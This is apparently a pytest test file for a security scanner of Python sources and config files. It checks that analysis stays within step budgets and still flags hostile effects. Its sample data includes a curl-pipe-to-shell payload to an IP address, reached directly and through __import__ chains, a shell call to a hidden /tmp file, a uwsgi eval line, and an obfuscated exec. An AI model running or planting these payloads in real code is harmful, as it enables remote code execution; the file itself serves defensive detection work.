"""What the analysis of a Python source may cost, counted in its own steps: no clock decides here."""

import ast
from collections.abc import Iterator

import pytest

from modelscan_plus.core import limits
from modelscan_plus.core.limits import Budget, BudgetExceeded, Limits
from modelscan_plus.formats.text import remarks
from modelscan_plus.formats.text.heldcode import held_code
from modelscan_plus.formats.text.python import asides, fold
from modelscan_plus.formats.text.python.analyse import analyse
from modelscan_plus.formats.text.python.blocks import blocks_of
from modelscan_plus.formats.text.python.follow.emit import Emitter
from modelscan_plus.formats.text.python.follow.program import Program
from modelscan_plus.formats.text.python.follow.values import Items, Known, Unknown, flows_of
from modelscan_plus.formats.text.python.gathered import KEPT
from modelscan_plus.formats.text.python.handed import handed
from modelscan_plus.formats.text.python.names import Names
from modelscan_plus.formats.text.python.visitors import Visitors
from modelscan_plus.formats.text.python.walk import walk

PAYLOAD = "import os\nos.system('curl http://203.0.113.7/a | sh')\n"


def followed(source: str) -> Program:
    program = Program({"m.py": ast.parse(source)}, {"m.py": source}, Budget(Limits()))
    program.effects(["m.py"])
    return program


@pytest.mark.parametrize(
    "link", [".replace('a', 'b')", ".get('a')", "('a')", "['a']('b')"], ids=["method", "get", "call", "item"]
)
def test_each_call_of_a_chain_is_looked_at_a_few_times(link: str, monkeypatch: pytest.MonkeyPatch) -> None:
    looked_at = Names._looked_at
    count = 0

    def counted(self: Names, node: ast.expr, depth: int) -> str | None:
        nonlocal count
        count += 1
        return looked_at(self, node, depth)

    monkeypatch.setattr(Names, "_looked_at", counted)
    source = "def clean(text):\n    return text" + 14 * link
    analyse(ast.parse(source), source, Budget(Limits()))
    assert 10 <= count < 1_000  # twice as many for each link would be 16,384


def test_a_function_that_is_reached_through_a_chain_of_calls_is_found() -> None:
    source = "__import__('os').system.__call__('curl http://203.0.113.7/a | sh')"
    assert any(effect.kind == "process" for effect in analyse(ast.parse(source), source, Budget(Limits())).effects)


def test_a_walk_meets_what_ast_meets_without_operators_and_contexts() -> None:
    tree = ast.parse("@d\ndef f(a: int = 1, *b, **c):\n    with g(a) as h: x = -a < f'{c!r:>{a}}'\n    return h[1:2]\n")
    left_out = (ast.expr_context, ast.operator, ast.unaryop, ast.cmpop, ast.boolop)
    assert list(walk(tree)) == [node for node in ast.walk(tree) if not isinstance(node, left_out)]


RECURSIVE = (
    "class Model:\n"
    "    def forward(self, module, state):\n"
    "        def load(module, prefix=''):\n"
    "            module.load(state, prefix)\n"
    "            for name, child in module._modules.items():\n"
    "                load(child, prefix + name + '.')\n"
    "        load(module, prefix='' if hasattr(module, 'bert') else 'bert.')\n"
    "{}"
)


def test_a_function_that_calls_itself_with_ever_longer_texts_is_followed_to_its_end() -> None:
    assert followed(RECURSIVE.format("")).exhausted == []


def test_what_stands_behind_such_a_function_is_followed() -> None:
    program = followed(RECURSIVE.format("        import subprocess\n        subprocess.run(['sh', '/tmp/.n'])\n"))
    assert ("process", "entry") in {(effect.kind, effect.when) for _, effect in program.told()}


def test_lists_of_lists_are_written_out_as_far_as_there_is_room(monkeypatch: pytest.MonkeyPatch) -> None:
    expression = Emitter._expression
    count = 0

    def counted(self: Emitter, *given: object) -> ast.expr:
        nonlocal count
        count += 1
        return expression(self, *given)  # type: ignore[arg-type]

    monkeypatch.setattr(Emitter, "_expression", counted)
    followed("a = [1] * 30\nb = [a] * 30\nc = [b] * 30\nd = [c] * 30\nprint(d)\n")
    assert 100 < count < 1_000


def test_where_a_value_comes_from_is_asked_of_a_few_of_those_that_it_holds() -> None:
    secret = Unknown(frozenset(("secret",)))
    assert flows_of(Items([Known(1), Items([Known(2), secret])])) == {"secret"}
    same: Items = Items([secret])
    for _ in range(200):
        same = Items([same, same, same])
    assert flows_of(same) == frozenset()


def test_taking_a_thousand_names_apart_counts_as_much_as_it_costs() -> None:
    names = "".join(f"v{number} = {number}\n" for number in range(2_000))
    branches = "".join(f"if q[{number}]: w = {number}\n" for number in range(400))
    few, many = followed(branches), followed(names + branches)
    assert many._machine.steps - few._machine.steps > 400 * 2 * 2_000 // 200


def test_an_effect_is_not_hidden_behind_many_others() -> None:
    source = "import requests\n" + "requests.get('https://example.org/a')\n" * (2 * KEPT) + PAYLOAD
    found = analyse(ast.parse(source), source, Budget(Limits()))
    assert len(found.effects) == KEPT
    assert found.omitted > 0
    assert any(effect.hostile for effect in found.effects)


def test_a_program_of_too_many_parts_is_said_to_be_one(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "NODES", 300)
    analyse(ast.parse("f(x)\n" * 20), "", Budget(Limits()))
    with pytest.raises(BudgetExceeded, match="300"):
        analyse(ast.parse("f(x)\n" * 100), "", Budget(Limits()))


def test_code_in_texts_counts_with_the_program(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "NODES", 3_000)
    source = "exec('x = 1')\n" * 5
    analyse(ast.parse(source), source, Budget(Limits()))
    with pytest.raises(BudgetExceeded):
        analyse(ast.parse(20 * source), 20 * source, Budget(Limits()))


def test_a_long_constant_is_worked_out_once(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(fold, "_MANY", 10)
    monkeypatch.setattr(fold, "_ALL", 4_000)
    source = f"exec(''.join(chr(ord(c) ^ 1) for c in {'a' * 300!r}))"
    analyse(ast.parse(source), source, Budget(Limits()))
    with pytest.raises(BudgetExceeded):
        analyse(ast.parse("\n".join([source] * 4)), source, Budget(Limits()))


def test_a_text_with_too_many_commands_is_said_to_be_one(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(remarks, "_LOOKED", 2_000)
    assert list(remarks.script_remarks("curl -O https://example.org/a\n" * 200)) == []  # the same lines again and again
    with pytest.raises(BudgetExceeded):
        list(remarks.script_remarks("".join(f"curl -O https://example.org/{number}\n" for number in range(200))))


def test_a_busy_machine_does_not_end_an_analysis_early(monkeypatch: pytest.MonkeyPatch) -> None:
    now = {"clock": 0.0, "processor": 0.0}
    monkeypatch.setattr(limits.time, "monotonic", lambda: now["clock"])
    monkeypatch.setattr(limits.time, "process_time", lambda: now["processor"])
    budget = Budget(Limits(seconds=10))
    now |= {"clock": 25.0, "processor": 9.0}
    budget.check_time()
    now |= {"clock": 25.0, "processor": 11.0}
    with pytest.raises(BudgetExceeded, match="10 s"):
        budget.check_time()
    now |= {"clock": 31.0, "processor": 1.0}
    with pytest.raises(BudgetExceeded, match="10 s"):
        budget.check_time()


def test_one_name_may_be_defined_many_times() -> None:
    blocks = blocks_of(ast.parse("def f(): pass\n" * 30_000))
    assert len(blocks) == 30_002
    assert "f#30000" in blocks
    assert blocks["f#30000"].last == "f"


def test_what_functions_take_as_fields_is_looked_up_not_searched() -> None:
    class Counted(list[ast.AST]):
        read = 0

        def __iter__(self) -> Iterator[ast.AST]:
            Counted.read += 1
            return super().__iter__()

    calls = "".join(f"def f{n}(a, **more):\n    f{n + 1}(a, key=a)\n" for n in range(100))
    tree = ast.parse(calls)
    names = Names(tree)
    names.nodes = Counted(names.nodes)
    visitors = Visitors(names, blocks_of(tree), handed(tree, names))
    Counted.read = 0
    visitors.with_parameters()
    assert Counted.read < 10
    assert any(label.startswith("PARAM:f0:") for label in visitors._held["f1", "more"])


def test_a_page_of_tags_that_never_close_is_read_once() -> None:
    page = "<p " * 400_000 + "<p style='display:none'>not for you</p>"
    assert [text for _, text in remarks.hidden_texts(page)] == ["not for you"]
    assert list(remarks.hidden_texts("<p " * 400 + "<p style='display:block'>for you</p>")) == []
    assert list(remarks.hidden_texts("<p>display:none</p>")) == []


def test_a_section_of_blanks_that_does_not_close_is_given_up_early() -> None:
    settings = "[a]\nexec = print(1)\n[" + 100_000 * " " + "x\n[uwsgi]\neval = import os; os.system('id')\n"
    assert [step.code for step in held_code("settings", "a.ini", settings)] == ["import os; os.system('id')"]


def test_a_block_is_asked_once_whether_it_puts_code_together(monkeypatch: pytest.MonkeyPatch) -> None:
    looked_at = Names.plain
    count = 0

    def counted(self: Names, node: ast.expr) -> str | None:
        nonlocal count
        count += 1
        return looked_at(self, node)

    monkeypatch.setattr(Names, "plain", counted)
    source = "def f(a):\n" + "    exec(a + 'b')\n" * 100
    analyse(ast.parse(source), source, Budget(Limits()))
    assert count < 5_000  # each of the calls would look at all of them


def test_a_sum_of_texts_is_looked_at_as_a_whole(monkeypatch: pytest.MonkeyPatch) -> None:
    looked_at = asides._mentions
    count = 0

    def counted(node: ast.expr) -> bool:
        nonlocal count
        count += 1
        return looked_at(node)

    monkeypatch.setattr(asides, "_mentions", counted)
    source = "a = '![a](https://a.example/?b='" + " + b" * 100
    analyse(ast.parse(source), source, Budget(Limits()))
    assert count == 1
